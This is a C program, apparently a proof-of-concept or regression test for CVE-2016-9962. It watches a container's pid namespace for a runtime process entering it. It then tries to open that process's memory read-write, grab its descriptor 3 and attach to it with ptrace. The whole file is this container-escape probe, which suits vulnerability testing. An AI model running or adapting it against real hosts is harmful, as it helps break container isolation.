// CVE-2016-9962: looks at every process that comes into this pid namespace as long as it is not yet the user's program, and tries to
// get hold of its memory, its descriptors and its registers.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

/** Whether its program can be seen, and is one of the runtime's. */
static int sees(int pid, char *link, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t length = readlink(path, link, size - 1);
  if (length < 0) return 0;
  link[length] = 0;
  errno = 0;
  return strstr(link, "memfd") != NULL || strstr(link, "rcx") != NULL;
}

static int opens(int pid, const char *name, int flags) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int fd = open(path, flags | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd >= 0;
}

static void grasp(int pid) {
  char link[512];
  int memory = opens(pid, "mem", O_RDWR), files = opens(pid, "fd/3", O_PATH);
  int traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
  if (traced) {
    // Only what stands still can be let go.
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
  if (sees(pid, link, sizeof link)) printf("got %s: memory %d, descriptor %d, traced %d\n", link, memory, files, traced);
}

/** The last that was given out in this pid namespace (proc_loadavg(5)). */
static int newest_pid(void) {
  static int fd = -1;
  if (fd < 0) fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
  char text[128];
  ssize_t length = pread(fd, text, sizeof text - 1, 0);
  text[length < 0 ? 0 : length] = 0;
  const char *last = strrchr(text, ' ');
  return last == NULL ? 0 : atoi(last);
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("ready\n");
  char link[512];
  for (int seen = getpid();;) {
    int pid = newest_pid();
    if (pid == seen) continue;
    seen = pid;
    int denied = 0;
    for (;;) {
      if (sees(pid, link, sizeof link)) {
        printf("got %s\n", link);
        grasp(pid);
        break;
      }
      // Gone, or the user's program by now.
      if (errno != EACCES) break;
      if (denied++ == 0) grasp(pid);
    }
    if (denied > 0) printf("denied\n");
  }
}
